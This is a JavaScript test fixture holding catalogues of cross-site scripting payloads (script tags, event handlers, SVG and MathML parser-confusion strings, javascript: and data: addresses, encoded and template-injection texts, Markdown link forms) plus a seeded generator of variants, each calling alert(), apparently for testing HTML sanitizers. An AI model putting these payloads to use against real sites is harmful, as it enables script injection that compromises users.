// SPDX-License-Identifier: MIT
//
// What people have written into fields to have it run as script: the known classes of markup, of
// addresses and of texts that only some step on the way would turn into markup; and a generator that
// combines tags, handlers, quotes, encodings and blanks. Each calls alert().
const { raw } = String;

export const markup = [
  // script
  '<script>alert(1)</script>',
  '<ScRiPt >alert(1)</sCrIpT >',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\t>',
  '<script\f>alert(1)</script>',
  '<script type=module>alert(1)</script>',
  '<script src=data:text/javascript,alert(1)></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '"><script>alert(1)</script>',
  '\'><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</mark><script>alert(1)</script>',
  // Handlers, blanks, quotes
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img\tsrc=x\tonerror\t=\talert(1)>',
  '<img\fsrc=x\fonerror=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img src=\'x\'onerror=\'alert(1)\'>',
  '<img src="x"onerror="alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<img src=x onerror="&#x61lert&lpar;1&rpar;">',
  raw`<img src=x onerror=\u0061lert(1)>`,
  '<img src=x onerror=window[`al`+`ert`](1)>',
  '<image src=x onerror=alert(1)>',
  '<img srcset=x onerror=alert(1)>',
  '<a<img src=x onerror=alert(1)>x<img src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<x tabindex=1 autofocus onfocus=alert(1)>x</x>',
  '<details open ontoggle=alert(1)>x</details>',
  '<audio src=x onerror=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<style onload=alert(1)></style>',
  '<b onclick=alert(1) style=position:fixed;inset:0>x</b>',
  // Frames, objects, heads
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
  '<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src=javascript:alert(1)>',
  '<base href=javascript:/x//><a href=alert(1)>x</a>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=javascript:alert(1)>',
  '<link rel=stylesheet href="data:text/css,*{display:none}">',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<div style="width:expression(alert(1))">x</div>',
  '<table background=javascript:alert(1)><tr><td>x</table>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<form><button formaction=javascript:alert(1)>x</button></form>',
  // SVG, MathML, and what becomes something else when it is parsed twice
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><script xlink:href=data:,alert(1) /></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set onbegin=alert(1) attributeName=x>',
  '<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math href=javascript:alert(1)>x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><p title="</style><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  // Comments and declarations
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<!DOCTYPE x [<!ENTITY y "><img src=x onerror=alert(1)>">]>',
];

// No markup by themselves: for who decodes twice, writes into an attribute or a script without quotes,
// takes another encoding, or fills a template.
export const texts = [
  '<p title="--><img src=x onerror=alert(1)>">x',
  '" onmouseover="alert(1)',
  '\' autofocus onfocus=\'alert(1)',
  'x onerror=alert(1)',
  '"autofocus/onfocus="alert(1)',
  '\'-alert(1)-\'',
  raw`\"-alert(1)//`,
  '&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&ltimg src=x onerror=alert(1)&gt',
  raw`\u003cimg src=x onerror=alert(1)\u003e`,
  raw`\x3cimg src=x onerror=alert(1)\x3e`,
  '%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '\u202E<img src=x \u0001onerror=alert(1)>',
  '<img src=x \u007Fonerror=alert(1)\uFEFF>',
  '{{constructor.constructor(\'alert(1)\')()}}',
  '{{{title}}}{{&title}}{{>head}}',
  '{{=<% %>=}}<%& title %>',
  '{{#title}}<img src=x onerror=alert(1)>{{/title}}',
  '${alert(1)}#{alert(1)}<%= alert(1) %>',
];

export const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  ' \u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3A;alert(1)',
  '&#106;avascript:alert(1)',
  '&#0000106avascript:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'javascript://x.example/%0Aalert(1)',
  'javascript:alert(1)//https://x.example',
  raw`javascript\:alert(1)`,
  'javascript%3Aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'feed:javascript:alert(1)',
  'view-source:javascript:alert(1)',
  'blob:https://x.example/1',
  'https://x.example/"onmouseover="alert(1)',
  'https://x.example/\'onmouseover=\'alert(1)',
  '/articulos/x"onmouseover="alert(1)',
  '#"><img src=x onerror=alert(1)>',
  'mailto:a@x.example"onmouseover="alert(1)',
];

// Each way in which Markdown, or HTML in it, names an address.
export const linked = (address, mark) => [
  `[${mark}](${address})`,
  `[${mark}](<${address}>)`,
  `[${mark}](${address} "\\"onmouseover=\\"alert(1)")`,
  `![${mark}](${address})`,
  `![${mark}" onerror="alert(1)](/imagenes/x "${address}")`,
  `[![${mark}](${address})](${address})`,
  `<${address}>`,
  `<a href="${address}">${mark}</a>`,
  `[${mark}][r${mark}]\n\n[r${mark}]: ${address} '"onmouseover="alert(1)'`,
];

// A sequence of numbers in [0, 1), the same each time.
function* chance(seed) {
  for (let state = seed; ;) {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    yield state / 2 ** 32;
  }
}

// Tags with a handler that fires by itself, and some that wait for somebody.
const tags = [['img src=x', 'onerror'], ['img srcset=x', 'onerror'], ['svg', 'onload'], ['iframe', 'onload'], ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'], ['details open', 'ontoggle'], ['input autofocus', 'onfocus'], ['object data=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'], ['style', 'onload'], ['script src=x', 'onerror'], ['body', 'onpageshow'],
  ['select autofocus', 'onfocus'], ['a href=#', 'onclick'], ['b', 'onpointerover'], ['marquee', 'onfinish']];
const quotes = ['', '"', '\''];
const blanks = [' ', '\t', '\n', '\f', ' / ', '  ', ' \n\t', '\r\n'];
const entity = (c) => `&#${c.charCodeAt(0)};`;
const encodings = [
  (call) => call,
  (call) => [...call].map(entity).join(''),
  (call) => call.replace('a', '&#x61;').replace('(', '&lpar;').replace(')', '&rpar;'),
  (call) => call.replace('a', raw`\u0061`),
  (call) => `javascript:${call}`,
  (call) => `top[/al/.source+/ert/.source]${call.slice('alert'.length)}`,
];
const cases = [(tag) => tag, (tag) => tag.toUpperCase(), (tag) => [...tag].map((c, i) => (i % 2 ? c : c.toUpperCase())).join('')];
const before = ['', '">', '\'>', '</p>', '<!-->', '</textarea>', '<', '<a', '</style>'];
const after = ['>', '>', '>', '>x', '/>', '//', ' <', '>`'];

export function generated(count, seed = 20261201) {
  const dice = chance(seed);
  const one = (of) => of[Math.floor(dice.next().value * of.length)];
  return Array.from({ length: count }, (_, i) => {
    const [quote, blank, lettering] = [one(quotes), one(blanks), one(cases)];
    const [tag, handler] = one(tags);
    const call = one(encodings)(`alert(${i})`);
    return `${one(before)}<${lettering(tag)}${blank}${lettering(handler)}${one(['', ' ', '\n'])}=${quote}${call}${quote}${one(after)}`;
  });
}
